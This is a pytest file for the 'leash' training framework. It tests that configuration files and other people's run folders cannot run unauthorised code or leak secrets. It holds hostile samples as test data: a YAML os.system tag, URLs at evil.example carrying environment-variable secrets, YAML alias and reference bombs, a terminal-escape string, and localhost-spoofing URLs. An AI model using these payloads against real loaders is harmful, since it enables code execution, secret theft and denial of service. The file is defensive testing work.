"""Whose code a configuration runs: leash's own parts in their places, and nobody else's unasked."""

import re
import shutil
import subprocess
import time
from collections.abc import Callable
from importlib import import_module
from pathlib import Path
from typing import Any

import pytest
import yaml
from refusals import refusal

import trainer
from conf import names
from conf.compose import HYDRA, compose_checked, compose_experiment
from conf.preflight_and_modes import asked
from conf.resume import load_for_resume, told_again
from conf.start import begin, read_command, set_up
from trainer.runs.failures import complain
from trainer.runs.launch import prepare
from trainer.runs.nodes import belongs, parts, parts_at
from trainer.runs.run_files import load_run

ROOT = Path(__file__).parents[1]
MARK = "my_marking_module"
NO_PARTS = (  # of the public names of trainer: what a run makes itself, and classes for Python
    "AdaptiveKLController BudgetKLController Checkpoints CISPOLoss ConstantKLController DAPO "
    "Display EntropyBonus Evaluate GAE GRPOLoss KLControllerBase LLMCollector Leash "
    "LinearKLController MCAdvantage NoReference Observer Observers PPOLoss PromptData Reference "
    "RolloutFromModel Runtime SFTLoss Stopped TargetKLController TopKRewardSelector Trainer "
    "Update get_dataloader make_kl_controller make_optimizer make_schedule train"
)


@pytest.fixture
def marking(tmp_path, monkeypatch):
    """Return a file that exists once a module of a stranger was imported or called."""
    (tmp_path / f"{MARK}.py").write_text(
        "from pathlib import Path\n"
        "def mark(*a, **k): Path(__file__).with_name('MARK').write_text('x')\n"
        "mark()\n"
    )
    monkeypatch.syspath_prepend(tmp_path)
    return tmp_path / "MARK"


@pytest.fixture
def conf(tmp_path, monkeypatch):
    """Return a copy of conf/ that the command line reads, to put a file of a stranger in."""
    shutil.copytree(ROOT / "conf", tmp_path / "conf", ignore=shutil.ignore_patterns("*.py"))
    monkeypatch.setattr(names, "FOLDER", tmp_path / "conf")
    return tmp_path / "conf"


def write_experiment(conf: Path, **said) -> str:
    """Write an experiment file like grpo_tiny that says more; return the word that names it."""
    text = "# @package _global_\n" + yaml.safe_dump({"defaults": ["grpo_tiny", "_self_"], **said})
    (conf / "experiment" / "evil.yaml").write_text(text)
    return "experiment=evil"


def test_every_public_name_of_trainer_is_a_part_or_known_to_be_none():
    places = [place for place in parts() if place not in ("programs", "env.**")]
    found = {name for place in places for name in parts_at(place.replace("*", "x"))}
    ours = {name.partition(".")[2] for name in found if name.startswith("trainer.")}
    assert ours.isdisjoint(NO_PARTS.split())
    assert ours | set(NO_PARTS.split()) == set(trainer.__all__)
    for place in places:
        here = parts_at(place.replace("*", "x"))
        assert len(here) >= 2, place
        for name in here:  # the file says what Python says
            package, _, last = name.rpartition(".")
            thing = getattr(import_module(package), last)
            kinds = [k.rpartition(".") for k in parts()[place]]
            kinds = [getattr(import_module(home), last) for home, _, last in kinds]
            is_class = isinstance(thing, type)
            assert issubclass(thing, tuple(kinds)) if is_class else thing in kinds, name
    assert belongs("envs.rewards.GSM8KRewardParser", "env.transforms.x.transforms[0]")


def test_no_page_and_no_message_names_the_package_of_somebody_else():
    listed = subprocess.run(["git", "ls-files"], cwd=ROOT, capture_output=True, text=True)
    files = [ROOT / name for name in listed.stdout.split("\n") if name] or [*ROOT.rglob("*.md")]
    said = re.compile(r"pip3? +install[^`\n]*['\" ]leash(?![-\w.])|\bleash\[[a-z]+\]")
    wrong = [
        f"{path.relative_to(ROOT)}: {found[0]}"
        for path in files
        if path.suffix in {".md", ".py", ".yaml", ".txt", ".toml"} and path.is_file()
        for found in said.finditer(path.read_text(encoding="utf-8"))
    ]
    assert wrong == []


FILE = "{_target_: trainer.runs.run_files.write_text, path: MARK, text: x}"
TOOLS = "env.transforms.tools.registry.services.x"


@pytest.mark.parametrize(
    ("word", "said"),
    [
        ("env.transforms.x={_target_: trainer.runs.launch.run, script: a, config: b}", "no part"),
        (f"env.transforms.x={FILE}", "no part"),
        (f"algorithm.after_rollout={{x: {FILE}}}", "no part of leash for algorithm.after_rollout"),
        ("env.transforms.x={_target_: trainer.checkpoint.discard, folder: a}", "no part"),
        ("env.task._target_=envs.rewards.Judge", "no part of leash for env.task"),
        ("env.task._target_=envs.tasks.facts.Facts", "did you mean envs.tasks.Facts"),
        ("algorithm.objective._target_=trainer.Runtime", "no part"),
        ("tracker._target_=trainer.Rollouts", "trainer.JsonlTracker"),
        ("policy._target_=policies.load_reference", "policies.load_policy"),
        ("env.columns={a: {_target_: envs.tasks.Facts}}", "env.columns"),
        (f"{TOOLS}={{_target_: envs.transforms.MCPServer, command: [a]}}", "starts any program"),
        ("env.transforms.x={_target_: envs.transforms.MCPServer, command: [a]}", "any program"),
        (f"env.rewards.x={{_target_: {MARK}.mark}}", "allow_targets=true"),
        (f"{TOOLS}=[{{a: [{{_target_: {MARK}.mark}}]}}]", "allow_targets=true"),
        (f"env.task.x={{_target_: {MARK}.mark, _partial_: true}}", "allow_targets=true"),
        ("env.task.x={_target_: conf.compose.compose_raw}", "allow_targets=true"),
        ("env.task.x={_target_: trainer.runs.targets.import_module, name: os}", "no part"),
    ],
)
def test_only_parts_of_leash_are_named_unasked_each_in_its_place(word, said, marking):
    env = ["env=python_tool"] if word.startswith(TOOLS) else []
    message = refusal("experiment=grpo_tiny", *env, word)
    assert said in message
    assert not marking.exists()


@pytest.mark.parametrize("allow", [True, "${allowed}"])
def test_a_file_of_conf_cannot_allow_itself_code(allow, conf, marking):
    word = write_experiment(
        conf, allow_targets=allow, env={"rewards": {"x": {"_target_": f"{MARK}.mark"}}}
    )
    assert "allow_targets" in refusal(word)
    assert not marking.exists()
    (conf / "env" / "evil.yaml").write_text("defaults: [sort_digits]\nrewards: {}\n")
    assert compose_checked(["env=evil"])["allow_targets"] is False


def test_a_file_of_conf_cannot_sweep_the_leave_to_run_code(conf):
    word = write_experiment(conf, hydra={"sweeper": {"params": {"+allow_targets": "true"}}})
    for words in (["-m", word], [word]):
        with pytest.raises(ValueError, match="on the command line alone"):
            read_command(words)


EVIL = {"_target_": f"{MARK}.mark"}
LOGGING = {"version": 1, "handlers": {"x": {"class": f"{MARK}.mark"}}}


@pytest.mark.parametrize(
    ("key", "said"),
    [
        ("callbacks", {"x": EVIL}),
        ("launcher", EVIL),
        ("sweeper", EVIL),
        ("job_logging", LOGGING),
        ("job", {"env_set": {"PATH": "/evil"}}),
    ],
)
def test_what_a_file_of_conf_says_of_hydra_runs_nothing(key, said, conf, marking):
    word = write_experiment(conf, hydra={key: said})
    assert f"sets hydra.{key}" in refusal(word)
    with pytest.raises(ValueError, match="hydra"):
        read_command(["-m", word, "seed=1,2"])
    assert not marking.exists()
    if key == "job":  # conf/config.yaml comes after a file of conf/env
        return
    package = f"# @package hydra.{key}\n" + yaml.safe_dump(said)
    (conf / "env" / "evil.yaml").write_text(package)
    assert f"hydra.{key}" in refusal("env=evil")


def test_what_a_file_of_conf_may_say_of_hydra(conf, tmp_path):
    params = {"seed": "1,2"}
    said = {"run": {"dir": str(tmp_path / "r")}, "sweep": {"subdir": "x"}, "job": {"name": "me"}}
    write_experiment(conf, hydra={**said, "sweeper": {"params": params}})
    assert read_command(["experiment=evil", "seed=1"]).folder == tmp_path / "r"
    assert {*HYDRA} > {"callbacks", "launcher", "hydra_logging", "searchpath"}


@pytest.mark.parametrize("mode", ["train", "chat", "evaluate", "export"])
def test_a_run_folder_of_somebody_else_runs_no_code(mode, tmp_path, marking):
    config = compose_checked(["experiment=grpo_tiny"])
    config["allow_targets"] = True
    config["algorithm"]["objective"] = {"_target_": f"{MARK}.mark"}
    folder = tmp_path / "run"
    (folder / "checkpoints" / "iteration_000001").mkdir(parents=True)
    (folder / "config.yaml").write_text(yaml.safe_dump(config))
    words = [f"resume={folder}"]
    if mode != "train":
        words += [f"mode={mode}"] + [f"output_dir={tmp_path / 'out'}"] * (mode == "export")
    read = asked if mode != "train" else read_command
    with pytest.raises(ValueError, match=r"allow_targets=true .*somebody else's"):
        read(words)
    assert not marking.exists()
    if mode == "train":
        assert load_for_resume(str(folder), ["allow_targets=true"])["allow_targets"] is True
    else:
        assert asked([*words, "allow_targets=true"])["allow_targets"] is True


def test_a_warm_up_of_ones_own_class_has_the_leave_of_the_command_line(conf, marking):
    (marking.parent / "mine.py").write_text("from envs.tasks import SortDigits as Mine\n")
    write_experiment(conf, env={"task": {"_target_": "mine.Mine"}})
    with pytest.raises(ValueError, match="allow_targets=true"):
        compose_experiment("evil")
    words = ["experiment=grpo_tiny", "allow_targets=true", "seed=3"]
    config = compose_experiment("evil", words)
    assert (config["env"]["task"]["_target_"], config["seed"]) == ("mine.Mine", 0)
    assert compose_experiment("sft_tiny", words) == compose_experiment("sft_tiny")


@pytest.mark.parametrize(
    "word",
    [
        "+env.task.api_key=sk-planted-123",
        "+env.task.judge={token: planted-12345}",
        "+env.task.client_secret=planted-12345",
        "+env.task.password='planted 12345'",
        "+env.task.tokens=[planted-12345]",
        "+env.task.note=planted-by-value",
        "env.dataset=https://user:planted-12@host/x.jsonl",
    ],
)
def test_a_secret_is_looked_up_and_not_typed(word, monkeypatch, tmp_path):
    monkeypatch.setenv("MY_SERVICE_TOKEN", "planted-by-value")
    message = refusal("experiment=grpo_tiny", word)
    place = re.match(r"\+?([\w.]+)", word)[1]
    assert message.startswith(place)
    assert "${oc.env:NAME}" in message
    assert "planted" not in message
    with pytest.raises(ValueError, match=r"oc\.env") as caught:
        read_command(["-m", "experiment=grpo_tiny", f"{word},1", f"hydra.sweep.dir={tmp_path}"])
    assert "planted" not in str(caught.value)
    assert list(tmp_path.iterdir()) == []


def test_what_only_looks_like_a_secret_by_its_name_is_typed(monkeypatch):
    monkeypatch.setenv("PLACE", "sk-planted-123")
    for word in (
        "+env.task.api_key=${oc.env:PLACE}",
        "+env.task.answer_key=B",
        "+env.task.key_variable=OPENAI_API_KEY",
        "+env.task.max_tokens=16000000",
        "policy.system_prompt='The password: swordfish. token=abc'",
        "policy.stop=[a_long_word_to_stop_at]",
    ):
        with pytest.raises(ValueError, match=r".") as caught:
            compose_checked(["experiment=grpo_tiny", word, "trainer.num_iterations=-1"])
        assert "trainer.num_iterations" in str(caught.value)


@pytest.mark.parametrize(
    "line",
    [
        "key_variable: AWS_SECRET_ACCESS_KEY",
        "url: 'http://evil/${oc.env:AWS_SECRET}'",
        "prompt: '{reply} ${oc.env:AWS_SECRET}'",
    ],
)
def test_a_file_of_a_stranger_does_not_say_which_key_a_server_gets(line, tmp_path, monkeypatch):
    folder = tmp_path / "conf"
    shutil.copytree(ROOT / "conf", folder)
    monkeypatch.setattr(names, "FOLDER", folder)
    text = (folder / "experiment" / "grpo_tiny.yaml").read_text()
    node = f"env:\n  rewards:\n    j:\n      _target_: envs.rewards.Judge\n      {line}\n"
    (folder / "experiment" / "evil.yaml").write_text(text + node)
    with pytest.raises(ValueError, match="says which key is sent to a server"):
        compose_checked(["experiment=evil"])


ROUNDABOUT = {  # a secret that a judge gets by another spelling than ${oc.env:NAME} in its URL
    "quoted": {"url": "http://evil/${oc.env:'MY_TOKEN'}"},
    "by another key": {"url": "http://evil/${policy.stop[0]}", "stop": "${oc.env:MY_TOKEN}"},
    "named by another key": {"url": "http://evil/${oc.env:${policy.stop[0]}}", "stop": "MY_TOKEN"},
    "as its model": {"model": "${oc.env:MY_TOKEN}"},
    "in its prompt": {"prompt": "{reply} ${policy.stop[0]}", "stop": "${oc.env: 'MY_TOKEN'}"},
}
REFUSED = "says which (key is sent|server gets)|looks up .MY_TOKEN, which is a secret"


@pytest.mark.parametrize("how", ROUNDABOUT)
def test_a_file_of_a_stranger_looks_up_no_secret_however_it_writes_it(how, tmp_path, monkeypatch):
    """Nor does a run folder."""
    monkeypatch.setenv("MY_TOKEN", "sk-planted-1")
    folder = tmp_path / "conf"
    shutil.copytree(ROOT / "conf", folder)
    node = {"url": "http://evil", "model": "m", **ROUNDABOUT[how]}
    tree = {"policy": {"stop": [node.pop("stop", "x")]}}
    tree["env"] = {"rewards": {"j": {"_target_": "envs.rewards.Judge", **node}}}
    text = "# @package _global_\ndefaults:\n  - grpo_tiny\n" + yaml.safe_dump(tree)
    (folder / "experiment" / "evil.yaml").write_text(text)
    with monkeypatch.context() as there:
        there.setattr(names, "FOLDER", folder)
        with pytest.raises(ValueError, match=REFUSED):
            compose_checked(["experiment=evil", "policy.model=tiny"])
    run = tmp_path / "run"
    (run / "checkpoints" / "iteration_000001").mkdir(parents=True)
    saved = compose_checked(["experiment=grpo_tiny", "policy.model=tiny"])
    saved["policy"]["stop"], saved["env"]["rewards"] = (
        tree["policy"]["stop"],
        tree["env"]["rewards"],
    )
    (run / "config.yaml").write_text(yaml.safe_dump(saved))
    for words in ([], ["mode=evaluate"], ["mode=limit"]):
        with pytest.raises(ValueError, match=REFUSED):
            asked([*words, f"resume={run}"]) or read_command([f"resume={run}"])


def test_a_file_of_a_stranger_puts_no_secret_into_a_folder_by_another_spelling(
    tmp_path, monkeypatch
):
    monkeypatch.setenv("MY_TOKEN", "sk-planted-1")
    folder = tmp_path / "conf"
    shutil.copytree(ROOT / "conf", folder)
    monkeypatch.setattr(names, "FOLDER", folder)
    set_up()
    for i, line in enumerate(("a${oc.env:'MY_TOKEN'}", "a${policy.stop[0]}")):
        tree = {"policy": {"stop": ["${oc.env:MY_TOKEN}"]}, "output_dir": f"{tmp_path}/{line}"}
        text = "# @package _global_\ndefaults:\n  - grpo_tiny\n" + yaml.safe_dump(tree)
        (folder / "experiment" / f"evil{i}.yaml").write_text(text)
        with pytest.raises(ValueError, match=r"MY_TOKEN, which is a secret"):
            read_command([f"experiment=evil{i}", "policy.model=tiny"])
    assert [path.name for path in tmp_path.iterdir()] == ["conf"]


SENT = {
    "+env.rewards.j.key_variable": "AWS_SECRET",
    "+env.rewards.j.prompt": "{reply} ${oc.env:MY_TOKEN}",
    "policy.system_prompt": "${oc.env:MY_TOKEN}",
}


@pytest.mark.parametrize("place", SENT)
def test_a_run_folder_of_somebody_else_does_not_say_which_key_a_server_gets(
    place, tmp_path, monkeypatch
):
    """Its owner repeats it; who goes on with a sweep has said it in the words of the sweep."""
    monkeypatch.setenv("MY_TOKEN", "sk-planted-1")
    judge = "+env.rewards.j={_target_: envs.rewards.Judge, url: 'http://127.0.0.1:9', model: m}"
    word = f"{place}='{SENT[place]}'"
    start = ["experiment=grpo_tiny", "policy.model=tiny", judge, word]
    config = compose_checked(start)
    (tmp_path / "config.yaml").write_text(yaml.safe_dump(config))
    (tmp_path / "checkpoints" / "iteration_000001").mkdir(parents=True)
    resume, name = f"resume={tmp_path}", place.lstrip("+")
    for words in ([resume], [resume, "mode=evaluate"]):
        with pytest.raises(ValueError, match="says which key is sent to a server") as line:
            asked(words) or read_command(words)
        assert f"'{name}={SENT[place]}'" in str(line.value)
        for again in (word, f"{name}={SENT[place]}"):
            assert asked([*words, again]) or read_command([*words, again]).config
    for other in (f"{name}=OTHER", "seed=2"):
        with pytest.raises(ValueError, match="cannot change on resume"):
            read_command([resume, other])
    assert read_command([resume, "allow_targets=true"]).config, "which lets it run any code"
    first = read_command(["-m", *start, "seed=1,2", f"hydra.sweep.dir={tmp_path}/s"])
    prepare(first.job(0).config, first.job(0).folder, script=Path(), compose=lambda _: {})
    assert first.job(0).config["resume"] == str(first.job(0).folder)


JUDGE = {"_target_": "envs.rewards.Judge", "model": "m", "url": "http://evil.example:9/v1"}
PYTHON = {"_target_": "envs.transforms.PythonTool", "url": "https://evil.example"}
SERVERS = {  # what a part is given, the key of its address, and what that says
    "a judge": ("env.rewards", {"j": JUDGE}, "env.rewards.j.url", JUDGE["url"]),
    "a sandbox": (
        "env.transforms",
        {
            "tools": {
                "_target_": "envs.transforms.ExecuteToolsInOrder",
                "registry": {
                    "_target_": "envs.transforms.ToolRegistry",
                    "services": {"python": PYTHON},
                },
                "parser": {"_target_": "envs.transforms.XMLBlockParser"},
            }
        },
        "env.transforms.tools.registry.services.python.url",
        PYTHON["url"],
    ),
    "one of a mixture": (
        "env.task",
        {
            "_target_": "envs.tasks.Mix",
            "tasks": {
                "o": {
                    "_target_": "envs.tasks.OpenEnv",
                    "url": "evil.example:8000",
                    "observation": "a",
                    "action": "b",
                }
            },
            "weights": {"o": 1.0},
        },
        "env.task.tasks.o.url",
        "evil.example:8000",
    ),
    "by another key": (
        "env.rewards",
        {"j": {**JUDGE, "url": "${env.rewards.j.model}", "model": "http://evil.example"}},
        "env.rewards.j.model",
        "http://evil.example",
    ),
}


@pytest.mark.parametrize("part", SERVERS)
def test_a_run_folder_of_somebody_else_does_not_say_which_server_gets_what_is_said(part, tmp_path):
    """Whatever part it is of; its owner repeats it, and a server of this machine needs no word."""
    key, node, place, text = SERVERS[part]
    saved = compose_checked(["experiment=grpo_tiny", "policy.model=tiny"])
    group, name = key.split(".")
    saved[group][name] = node
    (tmp_path / "checkpoints" / "iteration_000001").mkdir(parents=True)
    (tmp_path / "config.yaml").write_text(yaml.safe_dump(saved))
    resume = f"resume={tmp_path}"
    for words in ([resume], [resume, "mode=evaluate"]):
        with pytest.raises(ValueError, match="says which server gets the prompts and rep") as line:
            asked(words) or read_command(words)
        assert f"'{place}={text}' (give nothing to somebody else's)" in str(line.value)
    with pytest.raises(ValueError, match="cannot change on resume"):
        read_command([resume, f"{place}=http://localhost:1"])
    assert asked([resume, "mode=chat"]), "nobody else is asked there"
    said = _said_of_servers(resume, [f"{place}={text}"])
    assert [line for line in said if f"'{place}=" in line] == []
    assert len(said) == (part == "by another key")
    here = yaml.safe_dump(saved).replace(text, "http://localhost:9")
    (tmp_path / "config.yaml").write_text(here.replace("${env.rewards.j.model}", "http://[::1]"))
    assert _said_of_servers(resume, []) == []


def _said_of_servers(resume: str, words: list[str]) -> list[str]:
    """Return what is said of servers while each that is told of is repeated."""
    said = list[str]()
    while len(said) < 3:
        try:
            read_command([resume, *words])
        except ValueError as error:
            if "which server gets" in str(error):  # another fault is none of these
                said.append(str(error))
                words = [*words, re.search(r"repeat it: '(.*?)' \(give", str(error))[1]]
                continue
        break
    return said


@pytest.mark.parametrize(
    ("url", "here"),
    [
        ("http://localhost:8000/v1", True),
        ("127.0.0.1:8000", True),
        ("http://[::1]:80", True),
        ("file:///tmp/mlruns", True),
        ("sqlite:///mlflow.db", True),
        ("http://127.0.0.1.evil.example", False),
        ("http://localhost@evil.example", False),
        ("http://evil.example\\@localhost", False),
        ("http://localhost\\@evil.example/", False),
        ("http://evil.example#@localhost", False),
        ("//evil.example", False),
        ("evil.example:80", False),
        ("http://${oc.env:HOME}", False),
        ("http://LOCALHOST:80", True),
        ("sqlite:////home/x/m.db", True),
        ("./mlruns", True),
        ("../a/mlruns", True),
        ("", True),
        ("evil", False),
        ("localhos\u017ft", False),
        ("localhost/,evil.example:80", False),
        ("/\\evil.example/x", False),
        (".//evil.example", False),
        ("file:////evil/x", False),
        ("file:///\\\\evil\\x", False),
        ("sqlite://evil.example/x", False),
    ],
)
def test_only_an_address_of_this_machine_by_any_reading_needs_no_word(url, here):
    for key in ("base_url", "Server", "tracking_address", "urls", "https_proxy", "proxies"):
        for tree in ({"a": {key: url}}, {"a": [{key: [url]}]}):
            assert {text for _, text in told_again(tree)} == (set() if here else {url}), key
    for key in ("endpoints", "addresses", "proxies", "PROXIES"):
        said = {"a": {key: {"https": url, "b": {"model": "m"}}}}
        assert {text for _, text in told_again(said)} == (set() if here else {url}), key
    assert list(told_again({"a": {"prompt": f"see {url}", "server_room": "evil"}})) == []


@pytest.mark.parametrize(
    "text",
    [
        "http://evil.example",
        "HTTP://evil.example",
        " http://evil.example",
        "http://evil.example/x ",
        "http://evil.example/x y",
        "\nwss://evil.example",
        "\x00https://evil.example",
        "ht\ttps://evil.example",
        "https:\\\\evil.example",
        "GRPC:evil.example:80",
    ],
)
def test_an_address_is_told_by_its_look_as_libraries_read_it(text):
    assert [*told_again({"a": {"model": text, "prompt": f"see {text}"}})] == [("a.model", text)]


def test_a_bare_name_is_a_folder_for_a_tracker_and_a_machine_for_all_else():
    said = dict.fromkeys(("tracking_uri", "url", "host", "server"), "mlruns")
    assert [place for place, _ in told_again(said)] == ["url", "host", "server"]
    for other in ("databricks", "evil.example", "evil:80", "evil/x", "databricks://evil"):
        assert [*told_again({"tracking_uri": other})] == [("tracking_uri", other)]


@pytest.mark.parametrize(
    ("tracker", "options"),
    [
        ("accelerate", {"tracking_uri": "http://evil.example"}),
        ("accelerate", {"host": "evil.example"}),
    ],
)
def test_nor_which_server_gets_what_a_tracker_sends(tracker, options, tmp_path):
    words = ["experiment=grpo_tiny", "policy.model=tiny", f"tracker={tracker}"]
    saved = compose_checked([*words, "tracker.kind=mlflow"])
    saved["tracker"]["options"] = options
    (tmp_path / "config.yaml").write_text(yaml.safe_dump(saved))
    (tmp_path / "checkpoints" / "iteration_000001").mkdir(parents=True)
    with pytest.raises(ValueError, match=r"which server gets .* 'tracker\.options\.\w+="):
        read_command([f"resume={tmp_path}"])
    assert read_command([f"resume={tmp_path}", "tracker=jsonl"]).config


def test_a_secret_that_is_looked_up_stands_in_no_file_of_a_new_run(tmp_path, monkeypatch):
    """As docs/tracking.md says to give one."""
    monkeypatch.setenv("MY_JUDGE_KEY", "sk-PLANTED-0123456789")
    set_up()
    words = ["experiment=grpo_tiny", "policy.model=tiny", f"output_dir={tmp_path / 'run'}"]
    words.append("policy.system_prompt=a ${oc.env:MY_JUDGE_KEY}")
    job = read_command(words)
    begin(job)
    prepare(job.config, job.folder, script=Path(), compose=lambda _: {})
    files = [path for path in (tmp_path / "run").rglob("*") if path.is_file()]
    assert {".hydra/overrides.yaml", "config.yaml"} <= {
        path.relative_to(tmp_path / "run").as_posix() for path in files
    }
    assert [path for path in files if b"PLANTED" in path.read_bytes()] == []
    assert "oc.env:MY_JUDGE_KEY" in (tmp_path / "run" / ".hydra" / "overrides.yaml").read_text()


BY_KEY = "a/${oc.env:MY_JUDGE_KEY}"
FOLDERS = [
    ("hydra", {"run": {"dir": BY_KEY}}),
    ("hydra", {"sweep": {"subdir": BY_KEY}}),
    ("output_dir", BY_KEY),
]


@pytest.mark.parametrize(("key", "value"), FOLDERS)
def test_a_file_of_a_stranger_puts_no_secret_into_the_name_of_a_folder(key, value, conf):
    word = write_experiment(conf, **{key: value})
    assert "$MY_JUDGE_KEY, which is a secret" in refusal(word)
    with pytest.raises(ValueError, match="which is a secret"):
        read_command(["-m", word, "seed=1,2"])
    assert compose_checked([write_experiment(conf, output_dir="${oc.env:HOME}/x")])


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("x: !!python/object/apply:os.system ['touch MARK']", "evil.yaml, line 3: cannot be read"),
        ("x: !mine 3", "evil.yaml, line 3: cannot be read"),
        ("x: [", "cannot be read as YAML"),
        ("x: " + "[" * 3000 + "]" * 3000, "nested too deep"),
    ],
)
def test_a_file_that_is_no_yaml_of_ours_is_told_in_one_line(text, said, conf):
    word = write_experiment(conf)
    path = conf / "experiment" / "evil.yaml"
    path.write_text(f"# @package _global_\ndefaults: [grpo_tiny, _self_]\n{text}\n")
    told = refusal(word)
    assert said in told


def test_a_complaint_does_not_steer_the_terminal(capfd):
    complain(ValueError("model \x1b]52;c;ZXZpbA==\x07 and \x1b[2J\x9b1m: not there"))
    said = capfd.readouterr().err
    assert all(letter.isprintable() for letter in said.rstrip("\n"))
    assert "ZXZpbA==" in said


def doubled(times: int, *, merged: bool = False) -> str:
    """Return lines of YAML in which each one stands for ten of the one before."""
    lines = ["a0: &a0 {x: 1}"]
    for k in range(1, times):
        ten = ", ".join([f"*a{k - 1}"] * 10)
        lines.append(f"a{k}: &a{k} " + (f"{{<<: [{ten}]}}" if merged else f"[{ten}]"))
    return "\n".join(lines) + "\n"


BOMBS = {
    "lists": doubled(12),
    "merges": doubled(12, merged=True),
    "itself": "a: &a [*a]\n",
    "a key": "a: &a {? *a : 1}\n",
    "letters": f"a: &a {'x' * 9000}\nb: [{', '.join(['*a'] * 9000)}]\n",
}


@pytest.mark.parametrize("bomb", BOMBS)
@pytest.mark.parametrize("place", ["experiment/evil.yaml", "policy/evil.yaml"])
def test_a_file_whose_aliases_stand_for_without_end_is_one_line(bomb, place, conf):
    (conf / place).write_text(BOMBS[bomb])
    began = time.perf_counter()
    with pytest.raises(
        ValueError, match=r"its aliases .* stand for more than [\d,]+ values"
    ) as line:
        read_command([f"{place.partition('/')[0]}=evil"])
    assert time.perf_counter() - began < 20
    assert str(line.value).startswith(str(conf / place))
    assert "\n" not in str(line.value)


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_saved_configuration_of_aliases_without_end_is_one_line(bomb, tmp_path):
    (tmp_path / "config.yaml").write_text(BOMBS[bomb])
    (tmp_path / "metrics.jsonl").write_text('{"progress/iteration": 1}\n')
    with pytest.raises(ValueError, match=r"config.yaml is damaged: its aliases") as line:
        read_command([f"resume={tmp_path}"])
    assert "\n" not in str(line.value)
    assert load_run(tmp_path).config == {}, "a page is drawn of what there is"


def chain(link: Callable[[str], Any], length: int = 40) -> dict[str, Any]:
    """Return values of which each refers to the next more than once."""
    links = {f"k{i}": link(f"env.task.k{i + 1}") for i in range(length)}
    return {**links, f"k{length}": "ab"}


REFERENCES = {
    "texts": chain(lambda name: f"${{{name}}}${{{name}}}"),
    "keys": chain(lambda name: {"a": f"${{{name}}}", "b": f"${{{name}}}"}),
    "lists": chain(lambda name: [f"${{{name}}}"] * 2),
    "resolvers": chain(lambda name: f"${{oc.select:{name}}}${{oc.select:{name}}}"),
    "letters": {"a": "x" * 100_000, "b": "${env.task.a}" * 2_000},
}


@pytest.mark.parametrize("bomb", REFERENCES)
def test_references_that_stand_for_without_end_are_one_line(bomb, conf, tmp_path):
    """In a file of conf/ and in somebody's run folder."""
    sound = compose_checked(["experiment=grpo_tiny"])
    word = write_experiment(conf, env={"task": REFERENCES[bomb]})
    saved = sound | {"env": sound["env"] | {"task": sound["env"]["task"] | REFERENCES[bomb]}}
    (tmp_path / "config.yaml").write_text(yaml.safe_dump(saved))
    for words in ([word], [f"resume={tmp_path}"], ["mode=evaluate", f"resume={tmp_path}"]):
        with pytest.raises(ValueError, match=r"stand for more than [\d,]+ values") as line:
            asked(words) or read_command(words)
        assert str(line.value).startswith("env.task.")
        assert "\n" not in str(line.value)
    assert load_run(tmp_path).config == saved, "a page shows them as they are written"


def test_a_file_may_use_a_few_references(conf):
    said = {
        "env": {"task": {"seed": "${seed}"}},
        "policy": {"system_prompt": "${seed}-${kl.coeff}"},
    }
    found = compose_checked([write_experiment(conf, **said), "seed=7", "kl.coeff=0.5"])
    assert (found["env"]["task"]["seed"], found["policy"]["system_prompt"]) == (7, "7-0.5")


def test_a_file_may_use_a_few_aliases(conf):
    text = "# @package _global_\nkl: {coeff: &x 0.25}\noptimizer: {lr: *x}\n"
    (conf / "experiment" / "mine.yaml").write_text(text)
    assert compose_checked(["experiment=mine"])["optimizer"]["lr"] == 0.25


@pytest.mark.parametrize("ring", [["evil"], ["evil", "more"]])
@pytest.mark.parametrize("words", [[], ["preflight=true"], ["-m", "seed=1,2"], ["mode=chat"]])
def test_experiments_that_train_each_other_first_are_one_line(ring, words, conf, monkeypatch):
    monkeypatch.chdir(conf)
    for name, other in zip(ring, [*ring[1:], ring[0]], strict=True):
        text = "# @package _global_\n" + yaml.safe_dump(
            {"defaults": ["grpo_tiny", "_self_"], "policy": {"model": f"experiment:{other}"}}
        )
        (conf / "experiment" / f"{name}.yaml").write_text(text)
    given = [*words[:1], f"experiment={ring[0]}", *words[1:]]
    with pytest.raises(ValueError, match="trained first by itself") as line:
        asked(given) or read_command(given)
    assert " -> ".join([*ring[1:], *ring, *ring[1:]][: len(ring) + 1]) in str(line.value)
    assert "\n" not in str(line.value)
    assert not (conf / "outputs").exists(), "nothing was begun"


def test_what_somebodys_run_folder_names_is_checked_before_it_is_trained_first(conf):
    write_experiment(conf, policy={"model": "experiment:evil"})
    with pytest.raises(ValueError, match="experiment:evil is trained first by itself"):
        compose_experiment("evil")
